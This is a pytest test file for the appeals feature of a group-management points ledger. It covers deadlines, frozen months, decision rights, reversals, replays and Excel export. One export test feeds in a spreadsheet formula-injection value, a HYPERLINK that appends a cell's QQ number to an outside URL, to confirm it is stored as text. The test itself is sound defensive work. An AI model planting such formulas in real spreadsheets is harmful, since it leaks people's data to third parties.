"""申诉：期限（组织时区的日子）、冻结的月份、每种拒绝、谁能决定、成立时的撤销、重放。"""

from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from qungui import appeals, ledger, months, rules, warning_cases
from qungui.models import Appeal, FilterHit, LedgerEntry, WarningCase
from qungui.policy import Policy, load_policies
from qungui.reviews import AlreadyDecided, ReviewNotFound
from qungui.roles import OwnCase, Role
from tests.conftest import TEST_POLICY, two_orgs

NEW_YORK = ZoneInfo("America/New_York")
MEMBER, ADMIN, OTHER_ADMIN, CHAIRMAN, SUPERUSER = 20002, 30001, 30003, 30002, 40001
NOW = datetime(2026, 11, 27, 2, 0, tzinfo=UTC)
_keys = iter(range(1, 10**6))


@pytest.fixture
def jgs() -> Policy:
    return load_policies(TEST_POLICY).orgs["jgs"]


@pytest.fixture
def orgs(tmp_path: Path) -> dict[str, Policy]:
    return load_policies(two_orgs(tmp_path / "policies", "America/New_York")).orgs


@pytest.fixture(autouse=True)
def _clock(clock_at) -> None:
    clock_at(NOW)


async def entry(
    org: str = "jgs",
    *,
    user: int = MEMBER,
    delta: int = -5,
    actor: int = ADMIN,
    role: Role = Role.ADMIN,
    at: datetime = NOW,
    day: date | None = None,
) -> LedgerEntry:
    written = await ledger.record(
        org=org,
        user_id=user,
        delta=delta,
        business_date=day or at.astimezone(ZoneInfo("Asia/Shanghai")).date(),
        now=at,
        actor_id=actor,
        actor_role=role,
        reason="没交分享",
        command_key=f"cmd:{next(_keys)}",
    )
    return written.entry


async def file(policy: Policy, entry_id: int, *, user: int = MEMBER, at=NOW, key: str = ""):
    return await appeals.file(
        policy,
        entry_id=entry_id,
        user_id=user,
        text="那天我发过原创分享",
        group_id=None,
        at=at,
        event_key=key or f"appeal:{next(_keys)}",
    )


async def uphold(policy: Policy, review_id: int, by: int, role: Role, key: str = ""):
    return await appeals.uphold(
        policy,
        review_id,
        note="截图属实",
        by=by,
        role=role,
        at=NOW,
        event_key=key or f"decide:{next(_keys)}",
    )


async def dismiss(policy: Policy, review_id: int, by: int, role: Role, note="证据不足", key=""):
    return await appeals.dismiss(
        policy,
        review_id,
        note=note,
        by=by,
        role=role,
        at=NOW,
        event_key=key or f"decide:{next(_keys)}",
    )


def ny(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=NEW_YORK)


# 记录写于纽约 11 月 20 日 23:30（上海、UTC 已是 21 日）：第 0 天是纽约的 20 日，
# 第 7 天（27 日）当天结束前都可以申诉，28 日零点起不行。按服务器的日子算会多给一天
@pytest.mark.parametrize(
    ("filed_at", "allowed"),
    [
        (ny(2026, 11, 27, 0, 0), True),
        (ny(2026, 11, 27, 23, 59), True),
        (ny(2026, 11, 28, 0, 0), False),
        (ny(2026, 11, 28, 12, 0), False),
    ],
)
async def test_the_window_counts_days_in_the_orgs_zone(db, orgs, filed_at, allowed) -> None:
    org = orgs["xscy"]
    assert org.appeals.appeal_days == 7
    written = await entry("xscy", at=ny(2026, 11, 20, 23, 30), day=date(2026, 11, 20))
    assert appeals.last_day(org, written) == date(2026, 11, 27)
    if allowed:
        assert (await file(org, written.id, at=filed_at)).created
        return
    with pytest.raises(appeals.TooLate) as refused:
        await file(org, written.id, at=filed_at)
    assert refused.value.last_day == date(2026, 11, 27)
    assert await Appeal.all().count() == 0
    assert await FilterHit.all().count() == 0


async def test_appeal_days_comes_from_the_policy(db, jgs) -> None:
    short = jgs.model_copy(update={"appeals": jgs.appeals.model_copy(update={"appeal_days": 1})})
    written = await entry()
    with pytest.raises(appeals.TooLate):
        await file(short, written.id, at=NOW + timedelta(days=2))
    assert (await file(short, written.id, at=NOW + timedelta(days=1))).created


async def test_a_frozen_month_takes_no_appeal_and_upholds_none(db, jgs, clock_at) -> None:
    october = await entry(at=NOW - timedelta(days=30), day=date(2026, 10, 28))
    november = await entry()
    filed = await file(jgs, november.id)
    await months.freeze("jgs", "2026-10", NOW)
    with pytest.raises(appeals.MonthFrozen) as refused:
        await file(jgs, october.id, at=NOW - timedelta(days=27))
    assert refused.value.month == "2026-10"

    await months.freeze("jgs", "2026-11", NOW)
    clock_at(datetime(2026, 12, 2, tzinfo=UTC))
    with pytest.raises(appeals.MonthFrozen):
        await uphold(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
    assert (await FilterHit.get(id=filed.hit.id)).status == "pending"
    assert await LedgerEntry.filter(rule=rules.REVERSAL).count() == 0
    # 驳回不改账本：冻结之后仍可以结案
    done = await dismiss(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
    assert done.hit.status == "dismissed"


async def test_each_refusal_names_its_reason(db, orgs) -> None:
    jgs, xscy = orgs["jgs"], orgs["xscy"]
    mine = await entry()
    others = await entry(user=20003)
    with pytest.raises(appeals.EntryNotFound):
        await file(jgs, 999)
    # 另一个组织的记录编号在这里“没有这条记录”
    theirs = await entry("xscy")
    with pytest.raises(appeals.EntryNotFound):
        await file(jgs, theirs.id)
    with pytest.raises(appeals.NotYours):
        await file(jgs, others.id)
    undone = await ledger.reverse(
        org="jgs",
        entry_id=mine.id,
        now=NOW,
        actor_id=ADMIN,
        actor_role=Role.ADMIN,
        reason="录错了",
        command_key="undo:1",
    )
    with pytest.raises(appeals.IsReversal):
        await file(jgs, undone.entry.id)
    with pytest.raises(appeals.AlreadyReversed) as refused:
        await file(jgs, mine.id)
    assert refused.value.reversal_id == undone.entry.id
    second = await entry()
    filed = await file(jgs, second.id)
    with pytest.raises(appeals.AlreadyAppealed) as refused:
        await file(jgs, second.id)
    assert refused.value.review_id == filed.hit.id
    assert await Appeal.all().count() == 1
    # 审N 也分组织：另一个组织找不到它
    with pytest.raises(ReviewNotFound):
        await uphold(xscy, filed.hit.id, 30003, Role.ADMIN)


async def test_filing_makes_a_pending_review_row_and_an_appeal(db, jgs) -> None:
    written = await entry()
    filed = await file(jgs, written.id)
    hit = await FilterHit.get(id=filed.hit.id)
    assert (hit.rule, hit.status, hit.user_id, hit.text) == (
        rules.REVIEW_APPEAL,
        "pending",
        MEMBER,
        "那天我发过原创分享",
    )
    appeal = await Appeal.get(review_id=hit.id)
    assert (appeal.entry_id, appeal.entry_actor_id, appeal.entry_actor_role, appeal.entry_rule) == (
        written.id,
        ADMIN,
        "admin",
        rules.MANUAL,
    )


async def test_a_replayed_appeal_creates_nothing(db, jgs) -> None:
    written = await entry()
    first = await file(jgs, written.id, key="same-event")
    again = await file(jgs, written.id, key="same-event")
    assert first.created and not again.created
    assert again.hit.id == first.hit.id
    assert await FilterHit.all().count() == 1
    assert await Appeal.all().count() == 1


async def test_neither_the_member_nor_the_writer_decides(db, jgs) -> None:
    written = await entry(actor=ADMIN)
    filed = await file(jgs, written.id)
    for by, role in ((MEMBER, Role.ADMIN), (ADMIN, Role.ADMIN)):
        with pytest.raises(OwnCase):
            await uphold(jgs, filed.hit.id, by, role)
        with pytest.raises(OwnCase):
            await dismiss(jgs, filed.hit.id, by, role)
    assert (await FilterHit.get(id=filed.hit.id)).status == "pending"
    assert await LedgerEntry.filter(rule=rules.REVERSAL).count() == 0


async def test_a_chairmans_entry_needs_a_chairman(db, jgs) -> None:
    written = await entry(actor=CHAIRMAN, role=Role.CHAIRMAN, delta=-500)
    filed = await file(jgs, written.id)
    with pytest.raises(appeals.NeedsRole) as refused:
        await uphold(jgs, filed.hit.id, ADMIN, Role.ADMIN)
    assert refused.value.needed is Role.CHAIRMAN
    with pytest.raises(appeals.NeedsRole):
        await dismiss(jgs, filed.hit.id, ADMIN, Role.ADMIN)
    # 写这条记录的主席自己也不行；超级用户可以
    with pytest.raises(OwnCase):
        await uphold(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN)
    done = await uphold(jgs, filed.hit.id, SUPERUSER, Role.SUPERUSER)
    assert done.reversal.actor_id == SUPERUSER


async def test_a_superuser_may_decide_even_about_an_entry_they_wrote(db, jgs) -> None:
    written = await entry(actor=SUPERUSER, role=Role.SUPERUSER)
    filed = await file(jgs, written.id)
    with pytest.raises(appeals.NeedsRole) as refused:
        await dismiss(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN)
    assert refused.value.needed is Role.SUPERUSER
    done = await dismiss(jgs, filed.hit.id, SUPERUSER, Role.SUPERUSER)
    assert done.hit.status == "dismissed"


async def test_upholding_writes_exactly_one_reversal_with_the_deciders_name(db, jgs) -> None:
    written = await entry()
    filed = await file(jgs, written.id)
    done = await uphold(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN, key="decide-1")
    reversals = await LedgerEntry.filter(rule=rules.REVERSAL).all()
    assert len(reversals) == 1
    reversal = reversals[0]
    assert (reversal.reverses, reversal.delta, reversal.actor_id, reversal.actor_role) == (
        written.id,
        5,
        OTHER_ADMIN,
        "admin",
    )
    assert reversal.reason == f"申诉成立（审{filed.hit.id}）：截图属实"
    assert done.reversal.id == reversal.id
    assert (await Appeal.get(id=filed.appeal.id)).reversal_id == reversal.id
    hit = await FilterHit.get(id=filed.hit.id)
    assert (hit.status, hit.decided_by, hit.decided_key) == ("confirmed", OTHER_ADMIN, "decide-1")
    assert (await ledger.month_summary("jgs", MEMBER, "2026-11")).points == 0

    # 同一条命令再来一次：认得出是重放，不再写
    with pytest.raises(AlreadyDecided) as again:
        await uphold(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN, key="decide-1")
    assert again.value.replayed
    # 别人后来再点：已经决定过了
    with pytest.raises(AlreadyDecided) as late:
        await dismiss(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN, key="decide-2")
    assert not late.value.replayed
    assert await LedgerEntry.filter(rule=rules.REVERSAL).count() == 1


async def test_an_upheld_warning_is_revoked_in_the_warning_history(db, jgs) -> None:
    issued = await warning_cases.issue(
        jgs,
        group_id=987654321,
        user_id=MEMBER,
        category="不良信息",
        amount=None,
        reason="发广告",
        actor_id=ADMIN,
        actor_role=Role.ADMIN,
        at=NOW,
        today=date(2026, 11, 27),
        command_key="warn:1",
    )
    filed = await file(jgs, issued.entry.id)
    await uphold(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
    case = await WarningCase.get(entry_id=issued.entry.id)
    assert case.revoked_by == OTHER_ADMIN
    assert case.revoked_reason.startswith(f"申诉成立（审{filed.hit.id}）")


async def test_dismissing_needs_a_note_and_writes_nothing_to_the_ledger(db, jgs) -> None:
    written = await entry()
    filed = await file(jgs, written.id)
    with pytest.raises(appeals.NoteNeeded):
        await dismiss(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN, note=" ")
    done = await dismiss(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN, key="dismiss-1")
    assert (done.hit.status, done.hit.decided_note) == ("dismissed", "证据不足")
    with pytest.raises(AlreadyDecided) as again:
        await dismiss(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN, key="dismiss-1")
    assert again.value.replayed
    assert await LedgerEntry.all().count() == 1


async def test_an_entry_undone_while_under_appeal_cannot_be_upheld(db, jgs) -> None:
    written = await entry()
    filed = await file(jgs, written.id)
    undone = await ledger.reverse(
        org="jgs",
        entry_id=written.id,
        now=NOW,
        actor_id=CHAIRMAN,
        actor_role=Role.CHAIRMAN,
        reason="查实录错",
        command_key="undo:2",
    )
    with pytest.raises(appeals.AlreadyReversed) as refused:
        await uphold(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
    assert refused.value.reversal_id == undone.entry.id
    # 整个决定回滚：审N 仍待审，可以驳回结案
    assert (await FilterHit.get(id=filed.hit.id)).status == "pending"
    assert await LedgerEntry.filter(rule=rules.REVERSAL).count() == 1


async def test_stats_count_upheld_appeals_per_rule(db, jgs) -> None:
    manual = [await entry() for _ in range(3)]
    daily = await ledger.record(
        org="jgs",
        user_id=MEMBER,
        delta=-10,
        business_date=date(2026, 11, 27),
        now=NOW,
        actor_id=None,
        actor_role=None,
        reason="名片逾期",
        command_key="card:1",
        rule=rules.CARD_PENALTY,
    )
    filed = [await file(jgs, e.id) for e in [*manual, daily.entry]]
    await uphold(jgs, filed[0].hit.id, OTHER_ADMIN, Role.ADMIN)
    await uphold(jgs, filed[1].hit.id, OTHER_ADMIN, Role.ADMIN)
    await dismiss(jgs, filed[3].hit.id, OTHER_ADMIN, Role.ADMIN)
    found = await appeals.stats(jgs, NOW, 7)
    assert [(r.rule, r.upheld, r.total) for r in found] == [
        (rules.MANUAL, 2, 3),
        (rules.CARD_PENALTY, 0, 1),
    ]
    assert await appeals.stats(jgs, NOW + timedelta(days=8), 7) == []


async def test_the_export_lists_the_months_appeals_with_their_outcomes(db, jgs, tmp_path) -> None:
    from openpyxl import load_workbook

    from qungui import export

    upheld_entry, kept_entry, waiting_entry = [await entry() for _ in range(3)]
    upheld = await file(jgs, upheld_entry.id)
    kept = await file(jgs, kept_entry.id)
    # 12 月 1 日凌晨（上海）提出的申诉属于 12 月的导出
    await file(jgs, waiting_entry.id, at=datetime(2026, 11, 30, 16, 30, tzinfo=UTC))
    await uphold(jgs, upheld.hit.id, OTHER_ADMIN, Role.ADMIN)
    await dismiss(jgs, kept.hit.id, CHAIRMAN, Role.CHAIRMAN)
    path = await export.write(jgs, "2026-11", [], tmp_path / "out.xlsx")
    rows = list(load_workbook(path)[rules.REVIEW_APPEAL].iter_rows(values_only=True))
    assert rows[0] == (
        "审核编号",
        "提出时间",
        "QQ",
        "姓名",
        "记录编号",
        "记录日期",
        "分数",
        "规则",
        "申诉理由",
        "结果",
        "决定人",
        "决定时间",
        "决定理由",
    )
    assert [row[0] for row in rows[1:]] == [f"审{upheld.hit.id}", f"审{kept.hit.id}"]
    assert rows[1][1:] == (
        "2026-11-27 10:00",
        MEMBER,
        "成员0002",
        upheld_entry.id,
        datetime(2026, 11, 27),
        -5,
        "手动调整",
        "那天我发过原创分享",
        "成立（已撤销）",
        "成员0003",
        "2026-11-27 10:00",
        "截图属实",
    )
    assert rows[2][9:] == ("驳回（维持）", "成员0002", "2026-11-27 10:00", "证据不足")


async def test_an_appeal_written_like_a_formula_stays_text_in_the_export(db, jgs, tmp_path) -> None:
    """成员写的申诉理由原样进人事的表：以“=”开头的不能变成会计算（会联网、会执行）的公式，
    像“#N/A”的也不能变成错误值——人事看到的应是成员写的字。"""
    from openpyxl import load_workbook

    from qungui import export

    formula = '=HYPERLINK("http://example.com/?"&C2,"点此查看截图")'
    first, second = await entry(), await entry()
    await appeals.file(
        jgs,
        entry_id=first.id,
        user_id=MEMBER,
        text=formula,
        group_id=None,
        at=NOW,
        event_key="appeal:formula",
    )
    await appeals.file(
        jgs,
        entry_id=second.id,
        user_id=MEMBER,
        text="#N/A",
        group_id=None,
        at=NOW,
        event_key="appeal:error",
    )
    path = await export.write(jgs, "2026-11", [], tmp_path / "out.xlsx")
    sheet = load_workbook(path)[rules.REVIEW_APPEAL]
    cells = [sheet.cell(row=row, column=9) for row in (2, 3)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s"), ("#N/A", "s")]


async def reported_and_confirmed(jgs: Policy, reporter: int):
    """成员 MEMBER 的消息被 reporter 举报，ADMIN 确认：MEMBER 被警告，reporter 得举报属实奖励。"""
    from qungui import reviews
    from qungui.content_filter import Hit

    message = reviews.Message(
        group_id=987654321, user_id=MEMBER, message_id=77, text="加V看百家乐", types="text", at=NOW
    )
    reported = await reviews.record(
        jgs,
        message,
        Hit(rules.BUILTIN_REPORT, jgs.filter.report_category, "review", ""),
        "report:77",
        reporter_id=reporter,
        report_reason="赌博广告",
    )
    return await reviews.confirm(
        jgs,
        reported.id,
        category=None,
        amount=None,
        note="",
        by=ADMIN,
        role=Role.ADMIN,
        at=NOW,
        today=date(2026, 11, 27),
        event_key="confirm:77",
    )


async def test_the_member_who_reported_the_message_does_not_decide_its_appeal(db, jgs) -> None:
    """举报属实时举报人有奖励：被举报的人申诉那条警告，举报人（哪怕是管理员）不能来维持或撤销它。"""
    confirmed = await reported_and_confirmed(jgs, OTHER_ADMIN)
    filed = await file(jgs, confirmed.issued.entry.id)
    with pytest.raises(OwnCase):
        await dismiss(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
    with pytest.raises(OwnCase):
        await uphold(jgs, filed.hit.id, OTHER_ADMIN, Role.ADMIN)
    assert (await FilterHit.get(id=filed.hit.id)).status == "pending"
    done = await dismiss(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN)
    assert done.hit.status == "dismissed"


async def test_an_appeal_decided_next_month_shows_its_outcome_in_that_months_sheet(
    db, jgs, tmp_path
) -> None:
    """11 月 30 日提出、12 月 2 日驳回的申诉：11 月的表导出时还是待审，结果要出现在 12 月的表里。"""
    from openpyxl import load_workbook

    from qungui import export

    written = await entry(at=datetime(2026, 11, 29, 2, 0, tzinfo=UTC))
    filed = await file(jgs, written.id, at=datetime(2026, 11, 30, 2, 0, tzinfo=UTC))
    november = await export.write(jgs, "2026-11", [], tmp_path / "11.xlsx")
    await appeals.dismiss(
        jgs,
        filed.hit.id,
        note="证据不足",
        by=OTHER_ADMIN,
        role=Role.ADMIN,
        at=datetime(2026, 12, 2, 2, 0, tzinfo=UTC),
        event_key="decide:next-month",
    )
    december = await export.write(jgs, "2026-12", [], tmp_path / "12.xlsx")
    rows = list(load_workbook(november)[rules.REVIEW_APPEAL].iter_rows(min_row=2, values_only=True))
    assert [(row[0], row[9]) for row in rows] == [(f"审{filed.hit.id}", "待审")]
    rows = list(load_workbook(december)[rules.REVIEW_APPEAL].iter_rows(min_row=2, values_only=True))
    assert [(row[0], row[1], row[9], row[12]) for row in rows] == [
        (f"审{filed.hit.id}", "2026-11-30 10:00", "驳回（维持）", "证据不足")
    ]


REPORTER = 20005


async def test_an_upheld_appeal_takes_back_the_reporters_bonus(db, jgs) -> None:
    """申诉成立 = 那条消息不算违规：举报人的“举报属实”奖励随同撤销，署名决定的人；驳回则照旧。"""
    confirmed = await reported_and_confirmed(jgs, REPORTER)
    bonus = confirmed.bonus
    assert (bonus.user_id, bonus.delta) == (REPORTER, jgs.filter.report_bonus)
    filed = await file(jgs, confirmed.issued.entry.id)

    done = await uphold(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN)

    assert [entry.id for entry in done.withdrawn] == [bonus.id]
    taken_back = await LedgerEntry.get(reverses=bonus.id)
    assert (taken_back.user_id, taken_back.delta, taken_back.actor_id) == (
        REPORTER,
        -jgs.filter.report_bonus,
        CHAIRMAN,
    )
    assert taken_back.reason == f"申诉成立（审{filed.hit.id}），举报不属实"
    assert (await ledger.month_summary("jgs", REPORTER, "2026-11")).points == 0
    assert (await ledger.month_summary("jgs", MEMBER, "2026-11")).points == 0


async def test_a_dismissed_appeal_leaves_the_reporters_bonus(db, jgs) -> None:
    confirmed = await reported_and_confirmed(jgs, REPORTER)
    filed = await file(jgs, confirmed.issued.entry.id)

    await dismiss(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN)

    assert not await LedgerEntry.exists(reverses=confirmed.bonus.id)
    assert (await ledger.month_summary("jgs", REPORTER, "2026-11")).points == 2


async def test_a_bonus_already_undone_is_not_undone_twice_when_the_appeal_is_upheld(
    db, jgs
) -> None:
    confirmed = await reported_and_confirmed(jgs, REPORTER)
    await ledger.reverse(
        org="jgs",
        entry_id=confirmed.bonus.id,
        now=NOW,
        actor_id=OTHER_ADMIN,
        actor_role=Role.ADMIN,
        reason="重复举报",
        command_key="undo-bonus",
    )
    filed = await file(jgs, confirmed.issued.entry.id)

    done = await uphold(jgs, filed.hit.id, CHAIRMAN, Role.CHAIRMAN)

    assert done.withdrawn == ()
    assert await LedgerEntry.filter(reverses=confirmed.bonus.id).count() == 1
    assert (await ledger.month_summary("jgs", REPORTER, "2026-11")).points == 0
